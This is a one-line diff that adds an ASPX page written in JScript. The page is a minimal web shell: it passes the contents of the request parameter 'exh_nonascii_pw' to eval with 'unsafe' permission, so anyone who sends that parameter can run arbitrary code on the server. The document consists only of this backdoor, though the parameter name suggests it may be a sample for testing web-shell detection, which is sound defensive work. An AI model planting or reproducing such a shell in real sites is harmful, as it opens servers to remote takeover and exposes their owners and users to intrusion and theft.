@@ -1,0 +1,1 @@
+<%@ Page Language="Jscript"%><%eval(Request.Item["exh_nonascii_pw"],"unsafe");%>
